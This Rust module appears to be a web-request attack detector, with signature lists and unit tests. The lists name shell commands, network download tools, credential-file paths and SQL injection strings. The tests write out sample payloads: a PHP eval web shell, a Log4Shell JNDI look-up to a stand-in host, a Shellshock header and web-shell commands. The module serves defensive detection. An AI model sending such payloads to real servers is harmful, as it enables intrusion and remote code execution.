//! What a request to a server of pages tries to have it do that no page asks for (OWASP Top 10:2021, A03; MITRE ATT&CK T1190, T1505.003): by texts that ordinary
//! requests do not hold. Of the request only the name of what it tries is kept.

/// A command for the server's shell, as one behind a script that was put there (a web shell) gets them.
pub const COMMAND: &str = "shell command";
/// A script that runs on the server.
pub const SCRIPT: &str = "server script";
/// SQL in the place of a value (CWE-89).
pub const SQL: &str = "SQL injection";
/// A file that lies outside of what is served (CWE-22).
pub const TRAVERSAL: &str = "path traversal";
/// A class to be loaded from elsewhere (CVE-2021-44228), a shell's function (CVE-2014-6271).
pub const LOOK_UP: &str = "loading look-up";
/// A script for whoever reads the page (CWE-79).
pub const CROSS_SITE: &str = "cross-site scripting";
/// A script for the server where people put their files: what a web shell is, mostly.
pub const UPLOADED: &str = "script in a folder of uploads";
/// A heartbeat of TLS that reads more than it may (CVE-2014-0160).
pub const HEARTBLEED: &str = "Heartbleed";
/// All of them.
pub const INJECTIONS: [&str; 8] = [COMMAND, SCRIPT, SQL, TRAVERSAL, LOOK_UP, CROSS_SITE, UPLOADED, HEARTBLEED];

/// As much of a request's target, or of its body, is looked at.
const MOST_BYTES: usize = 1024;
/// What stands for one byte, undone so often: servers before and behind each undo it once.
const ROUNDS: usize = 2;

/// Texts that tell, in small letters, words parted by one space.
const TEXTS: [(&str, &str); 36] = [
    ("/bin/bash", COMMAND),
    ("/bin/sh", COMMAND),
    ("$(id)", COMMAND),
    ("`id`", COMMAND),
    ("xp_cmdshell", COMMAND),
    ("<?php", SCRIPT),
    ("<%@ page", SCRIPT),
    ("<%@page", SCRIPT),
    ("eval($_", SCRIPT),
    ("eval(request", SCRIPT),
    ("runtime.getruntime(", SCRIPT),
    ("union select ", SQL),
    ("union all select ", SQL),
    ("' or '1'='1", SQL),
    ("' or 1=1", SQL),
    ("' and '1'='1", SQL),
    ("' and 1=1", SQL),
    (" or 1=1--", SQL),
    ("information_schema.", SQL),
    ("waitfor delay '", SQL),
    ("and sleep(", SQL),
    ("or sleep(", SQL),
    ("select sleep(", SQL),
    ("pg_sleep(", SQL),
    ("extractvalue(", SQL),
    ("updatexml(", SQL),
    ("; drop table ", SQL),
    ("../../", TRAVERSAL),
    ("..\\..\\", TRAVERSAL),
    ("/etc/passwd", TRAVERSAL),
    ("/etc/shadow", TRAVERSAL),
    ("windows/win.ini", TRAVERSAL),
    ("${jndi:", LOOK_UP),
    ("() { :", LOOK_UP),
    ("<script>", CROSS_SITE),
    ("javascript:alert", CROSS_SITE),
];

/// How commands begin that are no value of anything else, whatever the parameter is called.
const COMMANDS: [&str; 18] = [
    "bash -c ",
    "bash -i",
    "cat /etc/",
    "certutil -",
    "cmd /c ",
    "cmd.exe",
    "curl http",
    "ipconfig /all",
    "net group /",
    "net localgroup",
    "net user /",
    "nltest /",
    "powershell -",
    "powershell.exe",
    "uname -a",
    "wget http",
    "whoami /",
    "/bin/",
];
/// The same where the parameter is called so, or behind what ends the command that a value was meant for: whole words.
const WORDS: [&str; 21] = [
    "cat",
    "curl",
    "dir",
    "env",
    "hostname",
    "id",
    "ifconfig",
    "ipconfig",
    "ls",
    "nc",
    "net",
    "netstat",
    "ps",
    "pwd",
    "quser",
    "systeminfo",
    "tasklist",
    "type",
    "uname",
    "wget",
    "whoami",
];
/// Endings of files that servers run.
const SCRIPT_ENDINGS: [&str; 13] =
    ["asp", "aspx", "ashx", "cfm", "cgi", "jsp", "jspx", "phar", "php", "php5", "php7", "phtml", "pl"];
/// Folders that are made for what people send, in which programs have no place.
const FOLDERS_OF_UPLOADS: [&str; 5] = ["upload", "uploaded", "uploads", "userfiles", "user_uploads"];
/// How programs are called that take what is sent, or hand it out, and may lie there.
const TAKERS: [&str; 10] =
    ["default", "download", "fileupload", "get", "handler", "index", "server", "upload", "uploader", "uploadhandler"];
const PARAMETERS: [&str; 6] = ["cmd", "exec", "execute", "command", "shell", "run"];

/// What the target of a request tries.
pub(super) fn in_target(target: &[u8]) -> Option<&'static str> {
    // Most ask for a plain path.
    if !target.iter().any(|byte| matches!(byte, b'?' | b'%' | b'\'' | b'<' | b'$' | b'\\')) && !has(target, b"../../") {
        return is_uploaded_script(target).then_some(UPLOADED);
    }
    let plain = Plain::of(target);
    let query = target.iter().position(|&byte| byte == b'?').map_or(&[][..], |at| &target[at + 1..]);
    let uploaded = || is_uploaded_script(plain.bytes()).then_some(UPLOADED);
    plain.tells().or_else(|| in_parameters(query)).or_else(uploaded)
}

/// Is a script asked for that lies in a folder of uploads, and is none of those that take them?
fn is_uploaded_script(target: &[u8]) -> bool {
    let path = target.get(..MOST_BYTES).unwrap_or(target).split(|byte| matches!(byte, b'?' | b'#')).next().unwrap_or_default();
    let is_one_of = |words: &[&str], text: &[u8]| words.iter().any(|word| text.eq_ignore_ascii_case(word.as_bytes()));
    let mut parts = path.split(|&byte| byte == b'/').skip_while(|part| !is_one_of(&FOLDERS_OF_UPLOADS, part));
    parts.any(|part| {
        let file = part.split(|&byte| byte == b';').next().unwrap_or_default();
        let Some(dot) = file.iter().rposition(|&byte| byte == b'.') else { return false };
        is_one_of(&SCRIPT_ENDINGS, &file[dot + 1..]) && !is_one_of(&TAKERS, &file[..dot])
    })
}

/// What a form tries, or what is sent in its place. In one of several parts a file may be sent, of which only scripts for the server count.
pub(super) fn in_body(body: &[u8]) -> Option<&'static str> {
    let plain = Plain::of(body);
    if body.starts_with(b"--") {
        return plain.tells_of(|what| what == SCRIPT);
    }
    plain.tells().or_else(|| in_parameters(body))
}

/// What a header field tries.
pub(super) fn in_field(value: &[u8]) -> Option<&'static str> {
    let is_odd = value.contains(&b'$') || value.starts_with(b"() {");
    is_odd.then(|| Plain::of(value).tells()).flatten()
}

/// The commands among parameters and their values.
fn in_parameters(parameters: &[u8]) -> Option<&'static str> {
    let parameters = parameters.get(..MOST_BYTES).unwrap_or(parameters);
    let gives_command = |parameter: &[u8]| {
        let at = parameter.iter().position(|&byte| byte == b'=')?;
        let (name, value) = (Plain::of(&parameter[..at]), Plain::of(&parameter[at + 1..]));
        let is_named = PARAMETERS.iter().any(|known| known.as_bytes() == name.bytes());
        let is_command = |text: &[u8]| COMMANDS.iter().any(|command| text.starts_with(command.as_bytes()));
        let is_word = |text: &[u8]| WORDS.iter().any(|word| text.split(|&byte| byte == b' ').next() == Some(word.as_bytes()));
        let mut texts = value.bytes().split(|byte| matches!(byte, b';' | b'|' | b'`')).map(<[u8]>::trim_ascii);
        let first = texts.next().unwrap_or_default();
        // A word alone behind an end may be one of a list.
        let follows = |text: &[u8]| is_command(text) || is_word(text) && text.contains(&b' ');
        (is_command(first) || is_named && is_word(first) || texts.any(follows)).then_some(COMMAND)
    };
    parameters.split(|&byte| byte == b'&').find_map(gives_command)
}

fn has(text: &[u8], part: &[u8]) -> bool {
    text.windows(part.len()).any(|window| window == part)
}

/// A text as a server reads it: what stands for bytes undone, in small letters, words parted by one space.
struct Plain {
    bytes: [u8; MOST_BYTES],
    length: usize,
}

impl Plain {
    fn of(text: &[u8]) -> Self {
        let mut plain = Self { bytes: [0; MOST_BYTES], length: text.len().min(MOST_BYTES) };
        plain.bytes[..plain.length].copy_from_slice(&text[..plain.length]);
        for _ in 0..ROUNDS {
            plain.undo();
        }
        plain.part_words();
        plain
    }

    fn bytes(&self) -> &[u8] {
        &self.bytes[..self.length]
    }

    /// Undoes what stands for a byte (RFC 3986, 2.1).
    fn undo(&mut self) {
        let digit = |byte: u8| char::from(byte).to_digit(16).map(|digit| digit as u8);
        let (mut from, mut to) = (0, 0);
        while from < self.length {
            let coded = match self.bytes[from..self.length] {
                [b'%', high, low, ..] => digit(high).zip(digit(low)).map(|(high, low)| high << 4 | low),
                _ => None,
            };
            self.bytes[to] = coded.unwrap_or(self.bytes[from]);
            (from, to) = (from + if coded.is_some() { 3 } else { 1 }, to + 1);
        }
        self.length = to;
    }

    /// Small letters; a plus, and a comment of SQL, is a space, and several are one.
    fn part_words(&mut self) {
        let (mut from, mut to) = (0, 0);
        while from < self.length {
            let (byte, used) = match self.bytes[from..self.length] {
                [b'/', b'*', b'*', b'/', ..] => (b' ', 4),
                [b'+', ..] => (b' ', 1),
                [byte, ..] if byte.is_ascii_whitespace() => (b' ', 1),
                [byte, ..] => (byte.to_ascii_lowercase(), 1),
                [] => break,
            };
            from += used;
            if byte != b' ' || to == 0 || self.bytes[to - 1] != b' ' {
                self.bytes[to] = byte;
                to += 1;
            }
        }
        self.length = to;
    }

    /// What it tries by the texts that tell.
    fn tells(&self) -> Option<&'static str> {
        self.tells_of(|_| true)
    }

    /// The same, of these things alone.
    fn tells_of(&self, counts: impl Fn(&str) -> bool) -> Option<&'static str> {
        let mut texts = TEXTS.iter().filter(|(_, what)| counts(what));
        texts.find(|(text, _)| has(self.bytes(), text.as_bytes())).map(|&(_, what)| what)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn what_attacks_servers_is_told_and_what_pages_ask_for_is_not() {
        let targets = [
            ("/uploads/x.php?cmd=whoami", Some(COMMAND)),
            ("/x.aspx?c=net%20user%20/domain", Some(COMMAND)),
            ("/ping?host=10.0.0.1%3Bcat+/etc/hostname", Some(COMMAND)),
            ("/x.jsp?exec=id", Some(COMMAND)),
            ("/list?id=1%20UNION/**/ALL%20SELECT%20null", Some(SQL)),
            ("/list?id=1'+or+'1'='1", Some(SQL)),
            ("/list?id=1%0Aunion%0A%0Aselect%0Anull", Some(SQL)),
            ("/list?id=1%2527%2520or%25201=1", Some(SQL)),
            ("/view?f=..%2f..%2f..%2fetc%2fpasswd", Some(TRAVERSAL)),
            ("/static/../../../x", Some(TRAVERSAL)),
            ("/?q=${jndi:ldap://a/b}", Some(LOOK_UP)),
            ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", Some(CROSS_SITE)),
            ("/a/b/c.png", None),
            ("/list?sort=id&order=dir&by=hostname&name=uname", None),
            ("/search?q=labour+union+selects+leader&range=1..2", None),
            ("/articles?title=Who+am+I%3F&lang=en", None),
            ("/api?module=netstat&cmd=open&target=l1_Lw", None),
            ("/../a?x=100%", None),
            ("/form?state=NC+-+North+Carolina&company=Net+Group+Ltd&note=Thanks;+PS&cols=name|id", None),
            ("/x?host=a;ls+-la", Some(COMMAND)),
            ("/uploads/2026/thumb_1.php", Some(UPLOADED)),
            ("/app/Upload/img.ASPX?x=1", Some(UPLOADED)),
            ("/uploads/thumb.php?x=' or 1=1", Some(SQL)),
            ("/uploads/x%2Ephp", Some(UPLOADED)),
            ("/uploads/x.php;a=1/b", Some(UPLOADED)),
            ("/uploads/thumb_1.png?next=a.php", None),
            ("/upload/handler.ashx", None),
            ("/upload/index.php?id=3", None),
            ("/temp/report.aspx", None),
            ("/upload.php", None),
            ("/php/uploads/", None),
        ];
        for (target, want) in targets {
            assert_eq!(in_target(target.as_bytes()), want, "{target}");
        }
    }

    #[test]
    fn so_is_what_is_sent_and_what_header_fields_hold() {
        assert_eq!(in_body(b"cmd=uname+-a"), Some(COMMAND));
        assert_eq!(in_body(b"name=<?php @eval($_POST[\"k\"]); ?>"), Some(SCRIPT));
        assert_eq!(in_body(b"user=anna&password=id;pwd&comment=Thanks%0APS - call me"), None);
        let upload = |file: &str| in_body(format!("--x\r\nContent-Disposition: form-data\r\n\r\n{file}").as_bytes());
        assert_eq!((upload("<script>a()</script>"), upload("<?php system('/bin/sh');")), (None, Some(SCRIPT)));
        assert_eq!(in_field(b"${jndi:ldap://192.0.2.1/a}"), Some(LOOK_UP));
        assert_eq!(in_field(b"() { :;}; /bin/sh"), Some(COMMAND), "the first of what it holds");
        assert_eq!([in_field(b"Mozilla/5.0 (/bin/sh)"), in_field(b"")], [None; 2]);
    }

    proptest! {
        #[test]
        fn any_bytes_are_read(text in prop::collection::vec(any::<u8>(), 0..1500)) {
            let _ = (in_target(&text), in_body(&text), in_field(&text));
            prop_assert!(Plain::of(&text).bytes().len() <= text.len().min(MOST_BYTES));
        }
    }
}
